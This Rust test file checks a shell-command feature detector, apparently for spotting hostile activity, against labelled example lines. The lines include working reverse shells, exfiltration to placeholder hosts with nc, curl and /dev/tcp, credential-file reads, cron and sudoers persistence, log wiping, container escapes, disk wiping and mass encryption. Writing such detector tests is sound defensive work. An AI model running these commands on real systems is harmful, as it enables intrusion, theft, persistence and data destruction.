use super::*;
use crate::reading::Reading;

fn features(line: &str) -> Features {
    Reading::of_line(line).features(&Surroundings::default())
}

fn value(features: &Features, name: &str) -> f32 {
    let idx = Features::NAMES
        .iter()
        .position(|known| *known == name)
        .unwrap();
    features.values()[idx]
}

/// Each line shows the class; each look-alike does not. What is wrong is collected.
struct Check(Vec<String>);

impl Check {
    fn class(&mut self, name: &str, hits: &[&str], look_alikes: &[&str]) {
        for (lines, expected) in [(hits, true), (look_alikes, false)] {
            for line in lines {
                if (value(&features(line), name) > 0.0) != expected {
                    self.0.push(format!("{name} should be {expected}: {line}"));
                }
            }
        }
    }
}

impl Drop for Check {
    fn drop(&mut self) {
        assert!(self.0.is_empty(), "{:#?}", self.0);
    }
}

#[test]
fn programs_that_have_nothing_to_do_with_such_files() {
    let mut check = Check(Vec::new());
    check.class(
        "secret_by_stranger",
        &[
            "sudo watermark --font /etc/shadow out.png",
            "lintall -F /home/ana/.ssh/id_ed25519 -O /dev/stdout",
        ],
        &[
            "ssh -i /home/ana/.ssh/id_ed25519 build@198.51.100.4",
            "cat /etc/shadow",
            "watermark --font /usr/share/fonts/a.ttf out.png",
        ],
    );
    check.class(
        "startup_by_stranger",
        &[
            "sudo typecheck src --outFile /root/.bashrc",
            "lintall --xml /etc/cron.d/zz",
        ],
        &["crontab -l", "vim /root/.bashrc", "lintall --xml out.xml"],
    );
    check.class(
        "persistence_written",
        &[
            "sudo typecheck src --outFile /root/.bashrc",
            "lintall --report-file=/etc/cron.d/zz",
        ],
        &[
            "lintall --report /var/tmp/report.xml",
            "lintall /root/.bashrc",
        ],
    );
    check.class(
        "preload_changed",
        &["sort -m -o /etc/ld.so.preload /tmp/x"],
        &["sort -o /srv/list /srv/list"],
    );
}

#[test]
fn secrets() {
    let mut check = Check(Vec::new());
    check.class(
        "secret_named",
        &[
            "ls -l ~/.ssh/id_rsa",
            "python3 -c 'open(\"/etc/shadow\").read()'",
        ],
        &[
            "ls ~/.ssh/id_rsa.pub",
            "cat /etc/passwd",
            "git add src/credentials.rs",
        ],
    );
    check.class(
        "secret_read",
        &[
            "cat /etc/shadow",
            "cp ~/.aws/credentials /tmp/x",
            "base64 < /root/.ssh/id_ed25519",
            "strings /proc/812/environ",
            "sudo head -1 /etc/shadow",
            "/???/c?t /etc/shadow",
            "cat /etc/./pam.d/../shadow",
        ],
        &[
            "cat /etc/hosts",
            "ls -l /etc/shadow",
            "cat ~/.ssh/id_rsa.pub",
            "chmod 600 ~/.ssh/id_rsa",
            "echo see /etc/shadow",
        ],
    );
    check.class(
        "secret_sent",
        &[
            "tar cz ~/.ssh | nc 203.0.113.9 1",
            "curl -F f=@/etc/shadow https://x.example",
            "k=$(cat ~/.aws/credentials); curl -d \"$k\" https://x.example",
            "cat ~/.netrc > /dev/tcp/203.0.113.9/80",
            "scp ~/.kube/config u@h:/x",
        ],
        &[
            "cat ~/.netrc; curl -s https://x.example",
            "scp build.tar u@h:/srv",
            "curl -F f=@report.pdf https://x.example",
        ],
    );
    check.class(
        "secret_searched",
        &[
            "grep -ri password /home",
            "find / -name id_rsa",
            "find / -perm -4000 -type f",
        ],
        &[
            "grep -rn password src",
            "find . -name '*.rs'",
            "grep root /etc/passwd",
        ],
    );
    check.class(
        "accounts_written",
        &[
            "echo 'x:x:0:0::/:/bin/sh' >> /etc/passwd",
            "cp s /etc/shadow",
        ],
        &["grep u /etc/passwd", "cp /etc/passwd backup"],
    );
}

#[test]
fn staying() {
    let mut check = Check(Vec::new());
    check.class(
        "persistence_written",
        &[
            "echo '* * * * * root /x' > /etc/cron.d/x",
            "cat k >> ~/.ssh/authorized_keys",
            "cp x.service /etc/systemd/system/x.service",
            "tee -a ~/.bashrc",
            "sed -i '1i x' /etc/profile",
            "cp h .git/hooks/post-checkout",
        ],
        &[
            "cat ~/.bashrc",
            "ls /etc/cron.d",
            "cp /etc/crontab /tmp/b",
            "vi notes.txt",
            "systemctl status x",
        ],
    );
    check.class(
        "persistence_scheduled",
        &[
            "crontab -",
            "echo x | at now",
            "systemd-run --on-calendar=daily x",
            "crontab file",
        ],
        &["crontab -l", "systemctl enable nginx", "atq"],
    );
    check.class(
        "preload_changed",
        &[
            "LD_PRELOAD=/tmp/x.so id",
            "echo /x.so > /etc/ld.so.preload",
            "export LD_PRELOAD=./h.so",
        ],
        &["LD_PRELOAD=/usr/lib/libjemalloc.so x", "ldconfig"],
    );
    check.class(
        "sudoers_changed",
        &[
            "echo 'u ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/u",
            "echo x | sudo tee -a /etc/sudoers",
        ],
        &["sudo -l", "cat /etc/sudoers"],
    );
    check.class(
        "account_changed",
        &[
            "useradd -m eve",
            "usermod -aG sudo eve",
            "echo u:p | chpasswd",
            "passwd -d root",
        ],
        &[
            "useradd --system app",
            "usermod -s /bin/sh u",
            "passwd",
            "id u",
        ],
    );
}

#[test]
fn running() {
    let mut check = Check(Vec::new());
    check.class(
        "temporary_executed",
        &[
            "/tmp/x",
            "chmod +x /dev/shm/a",
            "bash /tmp/i.sh",
            "sudo /var/tmp/x -d",
        ],
        &[
            "ls /tmp/x",
            "chmod 644 /tmp/a",
            "bash -c 'cat /tmp/x'",
            "./run.sh",
        ],
    );
    check.class(
        "hidden_executed",
        &["/home/u/.x/run", "./.hid/x"],
        &["/home/u/.cargo/bin/rg", "../x", "./x", "~/.local/bin/t"],
    );
    check.class(
        "written_then_executed",
        &[
            "curl -o i.sh http://h/i.sh; sh i.sh",
            "wget http://h/a; chmod +x a; ./a",
            "echo id > /tmp/x; sh /tmp/x",
            "curl -s u | tee /tmp/a; bash /tmp/a",
        ],
        &[
            "curl -o data.json http://h/d; jq . data.json",
            "echo x > out.txt; cat out.txt",
            "sh a.sh",
        ],
    );
    check.class(
        "memory_executed",
        &[
            "'/memfd:x (deleted)'",
            "/proc/self/fd/3",
            "python3 -c 'import os; f=os.memfd_create(\"\")'",
        ],
        &["/usr/bin/memtest", "cat /proc/self/fd/0"],
    );
    check.class(
        "masquerade",
        &[
            "/tmp/kworker",
            "cp x /tmp/.sshd",
            "exec -a '[kthreadd]' /tmp/x",
        ],
        &["/usr/sbin/sshd -D", "[ -f x ]", "systemctl restart sshd"],
    );
    check.class(
        "compiled_and_run",
        &[
            "gcc -o /tmp/e /tmp/e.c; /tmp/e",
            "cc x.c -o /dev/shm/x && chmod +x /dev/shm/x",
        ],
        &["gcc -o prog a.c && ./prog", "gcc -c /tmp/x.c -o /tmp/x.o"],
    );
    check.class(
        "inline_program",
        &["python3 -c 'print(1)'", "perl -e 1"],
        &["python3 a.py", "sh -c id"],
    );
    check.class(
        "shell_from_tool",
        &[
            "find . -exec /bin/sh \\; -quit",
            "tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=/bin/sh",
            "awk 'BEGIN {system(\"/bin/sh\")}'",
            "vim -c ':!/bin/sh'",
        ],
        &[
            "find . -exec sh -c 'echo \"$1\"' _ {} \\;",
            "git log",
            "tar xf a.tar",
            "make SHELL=/bin/bash",
        ],
    );
    check.class("run_elsewhere", &["ssh h id"], &["ssh-keygen -l", "ssh h"]);
    check.class(
        "exhaustion",
        &[":(){ :|:& };:", "stress --cpu 8"],
        &[": ${x:=1}", "true"],
    );
}

#[test]
#[expect(clippy::too_many_lines, reason = "a flat table")]
fn network() {
    let mut check = Check(Vec::new());
    check.class(
        "address_public",
        &[
            "curl http://203.0.113.9/x",
            "nc 198.51.100.2 80",
            "exec 3<>/dev/tcp/203.0.113.9/1",
        ],
        &[
            "curl http://10.0.0.2/",
            "curl https://x.example",
            "ping 203.0.113.9.example",
            "echo 203.0.113.9",
        ],
    );
    check.class(
        "address_private",
        &["curl http://10.0.0.2/"],
        &["curl http://203.0.113.9/", "pip install x==10.0.0.2"],
    );
    check.class(
        "address_loopback",
        &["curl localhost:80", "nc 127.0.0.1 1"],
        &["curl http://203.0.113.9/"],
    );
    check.class(
        "metadata_asked",
        &[
            "curl http://169.254.169.254/latest/meta-data/",
            "wget -qO- http://metadata.google.internal/x",
        ],
        &["curl http://169.254.1.1/"],
    );
    check.class(
        "fetched_in_clear",
        &["curl http://h.example/x"],
        &["curl https://h.example/x", "curl http://localhost/x"],
    );
    check.class(
        "fetched_program",
        &["wget https://h.example/i.sh"],
        &["wget https://h.example/i.html", "curl https://h.example/"],
    );
    check.class(
        "network_device",
        &["cat x > /dev/tcp/203.0.113.9/80"],
        &["echo > /dev/tcp/127.0.0.1/80", "cat x > /dev/null"],
    );
    check.class(
        "descriptor_juggling",
        &["sh -i 0>&1", "exec 5<>/dev/tcp/h/1; cat <&5"],
        &["make > log 2>&1", "x 2>/dev/null", "exec 3>&1"],
    );
    check.class(
        "shell_on_socket",
        &[
            "bash -i >& /dev/tcp/203.0.113.7/9001 0>&1",
            "nc -e /bin/sh h 1",
            "socat TCP:h:1 EXEC:/bin/sh",
            "mkfifo p; sh -i < p | nc h 1 > p",
            "exec 5<>/dev/tcp/h.example/1; sh <&5 >&5",
        ],
        &[
            "nc -z h 1",
            "socat TCP-LISTEN:80,fork TCP:h:80",
            "sh -c '(echo > /dev/tcp/db01/5432) 2>/dev/null && echo up'",
            "bash -c 'exec 3<>/dev/tcp/127.0.0.1/6379 && printf PING >&3 && head -1 <&3'",
        ],
    );
    check.class(
        "listener",
        &["nc -lvnp 1", "python3 -m http.server", "ssh -R 1:h:2 x"],
        &["nc -z h 1", "python3 -m json.tool", "ssh h"],
    );
    check.class(
        "tunnel",
        &["chisel client h R:1", "ssh -fND 1080 h"],
        &["ssh h uptime"],
    );
    check.class(
        "fetch_to_interpreter",
        &[
            "curl u | sudo bash",
            "bash <(wget -qO- u)",
            "sh -c \"$(curl -s u)\"",
            "eval `curl u`",
            "wget -qO- u | (cd /; python3)",
            "x=$(curl u); eval \"$x\"",
        ],
        &[
            "curl http://localhost/x | sh -n",
            "curl u | jq .",
            "curl -o f u",
            "curl http://127.0.0.1/x | bash",
        ],
    );
    check.class(
        "decode_to_interpreter",
        &[
            "echo aWQ= | base64 -d | sh",
            "xxd -r -p f | bash",
            "eval $(base64 -d f)",
            "gunzip -c f | sh",
        ],
        &["base64 -d f > g", "echo aWQ= | base64 -d", "gunzip f"],
    );
    check.class(
        "data_sent",
        &[
            "curl -T f https://x.example",
            "tar c d | nc h 1",
            "scp f u@h:/x",
            "nc h 1 < f",
        ],
        &[
            "curl https://x.example",
            "scp u@h:/x f",
            "curl -T f http://localhost/",
            "curl -d a=b https://x.example",
        ],
    );
    check.class(
        "archive_sent",
        &[
            "tar c d | ssh h 'cat > d.tar'",
            "zip -r - d | curl -T - https://x.example",
        ],
        &[
            "tar xf a.tar",
            "curl -o a.tgz https://x.example; tar xf a.tgz",
        ],
    );
}

#[test]
fn hiding() {
    let mut check = Check(Vec::new());
    check.class(
        "decoded_texts",
        &["echo Y2F0IC9ldGMvc2hhZG93IHwgbmMgaCAx"],
        &["echo d41d8cd98f00b204e9800998ecf8427e", "echo hello"],
    );
    check.class(
        "assembled",
        &[
            "a=cu;b=rl;$a$b x",
            "/???/b??h x",
            "${PATH:0:1}bin",
            "{cat,/etc/passwd}",
        ],
        &[
            "d=/srv; ls $d/x",
            "ls *.rs",
            "f=out; gcc -o $f x.c",
            "x=1; echo $x",
        ],
    );
    check.class(
        "idle_quotes",
        &["c''at x", "c\\at x", "w'g'et x"],
        &[
            "grep 'a b' x",
            "echo \"$x\"",
            "a --b='c'",
            "find . -name \\*.c",
        ],
    );
    check.class(
        "hidden_characters",
        &["echo a\u{200b}b", "p\u{0430}ss x"],
        &["echo Grüße", "echo привет"],
    );
    check.class(
        "random_word",
        &["echo aG9sZCBvbiB0aGVyZSBteSBmcmllbmQgSSBhbQ"],
        &[
            "echo internationalization_of_everything",
            "git show d41d8cd98f00b204e9800998ecf8427ed41d8cd9",
        ],
    );
}

#[test]
#[expect(clippy::too_many_lines, reason = "a flat table")]
fn privileges_and_protection() {
    let mut check = Check(Vec::new());
    check.class(
        "set_id",
        &["chmod 4755 x", "chmod u+s x", "install -m 4755 a b"],
        &[
            "chmod 755 x",
            "chmod 0644 x",
            "chmod +x x",
            "chmod 1777 d",
            "chmod g=rws-x x; true".split(';').next_back().unwrap(),
        ],
    );
    check.class(
        "world_writable",
        &["chmod 777 x", "chmod -R o+w d"],
        &["chmod 755 x", "chmod 1777 /tmp/d", "chmod g+w d"],
    );
    check.class(
        "capability_given",
        &["setcap cap_setuid+ep /x"],
        &["getcap /x", "setcap -r /x"],
    );
    check.class(
        "protection_lowered",
        &[
            "sysctl -w kernel.randomize_va_space=0",
            "echo 0 > /proc/sys/kernel/yama/ptrace_scope",
        ],
        &[
            "sysctl -w vm.swappiness=10",
            "sysctl kernel.randomize_va_space",
            "echo 1 > /proc/sys/net/ipv4/ip_forward",
        ],
    );
    check.class(
        "kernel_module",
        &["insmod x.ko", "modprobe dummy"],
        &["lsmod", "modinfo x", "modprobe -n x"],
    );
    check.class(
        "log_wiped",
        &[
            "rm -rf /var/log/auth.log",
            "> /var/log/syslog",
            "cat /dev/null > /var/log/wtmp",
            "journalctl --vacuum-time=1s",
            "truncate -s 0 /var/log/messages",
        ],
        &[
            "tail /var/log/syslog",
            "echo x >> /var/log/app.log",
            "journalctl -u x",
            "ls /var/log",
        ],
    );
    check.class(
        "history_wiped",
        &[
            "history -c",
            "unset HISTFILE",
            "rm ~/.bash_history",
            "export HISTSIZE=0",
            "ln -sf /dev/null ~/.bash_history",
        ],
        &["history", "export HISTSIZE=1000"],
    );
    check.class(
        "defence_disabled",
        &[
            "systemctl stop auditd",
            "setenforce 0",
            "iptables -F",
            "ufw disable",
            "pkill falco",
            "apt-get remove -y clamav",
        ],
        &[
            "systemctl restart nginx",
            "iptables -L",
            "systemctl status auditd",
            "ufw status",
        ],
    );
    check.class(
        "trace_altered",
        &["touch -r /bin/ls /usr/bin/x", "chattr +i /etc/x"],
        &["touch -d now x", "touch f", "lsattr"],
    );
    check.class(
        "host_reached",
        &[
            "nsenter -t 1 -m -u sh",
            "chroot /host sh",
            "echo x > /sys/fs/cgroup/x/release_agent",
            "mount /dev/sda1 /mnt",
        ],
        &[
            "nsenter -t 4000 -n ip a",
            "mount -t tmpfs x /mnt",
            "chroot /srv/jail sh",
        ],
    );
    check.class(
        "privileged_container",
        &[
            "docker run --privileged x",
            "docker run -v /:/host x",
            "docker run -v /var/run/docker.sock:/var/run/docker.sock x",
        ],
        &["docker run -v /srv:/data x", "docker ps"],
    );
    check.class(
        "process_inspected",
        &["gdb -p 12", "gcore 12", "strace -p 12"],
        &["gdb ./a", "strace ls"],
    );
    check.class(
        "captured",
        &["tcpdump -i any -w x"],
        &["tcpdump -r x", "script"],
    );
}

#[test]
fn purpose_and_destruction() {
    let mut check = Check(Vec::new());
    check.class(
        "discovery_breadth",
        &["id; uname -a; cat /etc/passwd"],
        &["id", "uname -a", "ls; cat x; make"],
    );
    check.class(
        "mining",
        &["./x -o stratum+tcp://p.example:3333", "xmrig"],
        &["make stratum"],
    );
    check.class(
        "offensive_tool",
        &["nmap -sS 10.0.0.0/8", "hydra -l r h ssh"],
        &["nm a.o", "john.py"],
    );
    check.class(
        "system_deleted",
        &[
            "rm -rf /",
            "rm -rf --no-preserve-root x",
            "rm -fr /etc",
            "rm -rf ~",
        ],
        &[
            "rm -rf build",
            "rm -rf /var/lib/apt/lists/*",
            "rm /etc/x",
            "rm -rf /tmp/x",
            "rm -rf /var/cache/apt",
        ],
    );
    check.class(
        "data_destroyed",
        &[
            "dd if=/dev/zero of=/dev/sda",
            "mkfs.ext4 /dev/sdb1",
            "shred -u f",
            "rm -rf /mnt/backups/*",
            "vgremove -f copies",
            "btrfs subvolume delete /snapshots/daily",
        ],
        &[
            "dd if=/dev/zero of=img bs=1M",
            "rm -rf /srv/backups/2024-01-02",
            "vgs",
            "btrfs subvolume list /",
            "mkfs.ext4 disk.img",
            "dd if=/dev/sda of=x",
        ],
    );
    check.class(
        "mass_encrypted",
        &[
            "for f in *; do openssl enc -aes-256-cbc -in $f -out $f.x; done",
            "find / -type f -exec gpg -c {} \\;",
        ],
        &[
            "openssl enc -d -in a -out b",
            "openssl enc -aes-256-cbc -in a -out b",
            "gpg --verify x",
        ],
    );
    let around = Surroundings::of_parents(&["nginx"]);
    let reading = Reading::of_line("sh -c id");
    assert!(reading.features(&around).service_parent > 0.0);
    assert_eq!(features("sh -c id").service_parent, 0.0);
}

#[test]
fn every_value_is_between_nought_and_one() {
    let noisy = "a=cu;b=rl;$a$b http://203.0.113.9/x.sh|bash;".repeat(60)
        + &"c''a''t /etc/shadow;".repeat(60);
    for value in features(&noisy).values() {
        assert!((0.0..=1.0).contains(&value), "{value}");
    }
    assert!(value(&features(&"a$(".repeat(4000)), "unread") > 0.0);
}
